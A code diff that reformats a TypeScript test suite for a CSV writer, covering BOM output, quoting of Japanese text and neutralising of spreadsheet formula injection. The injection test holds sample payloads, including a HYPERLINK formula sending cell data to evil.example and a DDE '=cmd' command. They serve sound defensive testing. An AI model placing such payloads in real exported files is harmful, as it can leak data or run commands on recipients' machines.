@@ -7,11 +7,7 @@ const text = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
 
 describe("writeCsv", () => {
   it("writes UTF-8 with a BOM and CRLF by default, quoting cells with commas, quotes and newlines", () => {
-    const { bytes, unencodable } = writeCsv(
-      ["課題番号", "内容"],
-      [["A(1)", '一行目\n二行目, "引用"']],
-      { encoding: "utf-8-bom" },
-    );
+    const { bytes, unencodable } = writeCsv(["課題番号", "内容"], [["A(1)", '一行目\n二行目, "引用"']], { encoding: "utf-8-bom" });
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(text(bytes.subarray(3))).toBe('課題番号,内容\r\nA(1),"一行目\n二行目, ""引用"""\r\n');
     expect(unencodable).toEqual([]);
@@ -24,7 +20,11 @@ describe("writeCsv", () => {
 
   it("neutralises formula injection in every string cell, header included", () => {
     const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+1", "-1", "@SUM(A1:A2)", "\t=1+1", "\r=1"];
-    const { bytes } = writeCsv(["=cmd|' /C calc'!A0"], attacks.map((a) => [a]), { encoding: "utf-8" });
+    const { bytes } = writeCsv(
+      ["=cmd|' /C calc'!A0"],
+      attacks.map((a) => [a]),
+      { encoding: "utf-8" },
+    );
     const read = readCsv(bytes);
     expect(read.header).toEqual(["'=cmd|' /C calc'!A0"]);
     expect(read.rows.map((r) => r[0])).toEqual(attacks.map((a) => `'${a}`));
@@ -89,7 +89,7 @@ describe("writeCsv → readCsv (property)", () => {
       fc.constantFrom("=1+1", "-1", "+81", "@x", "\t=x", '"', "a,b", "\r\n", "〜", "日本語"),
     );
     fc.assert(
-      fc.property(fc.array(fc.tuple(cell, cell), { maxLength: 20 }), fc.constantFrom("utf-8", "utf-8-bom") , (rows, encoding) => {
+      fc.property(fc.array(fc.tuple(cell, cell), { maxLength: 20 }), fc.constantFrom("utf-8", "utf-8-bom"), (rows, encoding) => {
         const { bytes } = writeCsv(["a", "b"], rows, { encoding });
         const expected = rows.map((r) => r.map(cellToSafeText)).filter((r) => r.some((c) => c.trim() !== ""));
         expect(readCsv(bytes).rows).toEqual(expected);
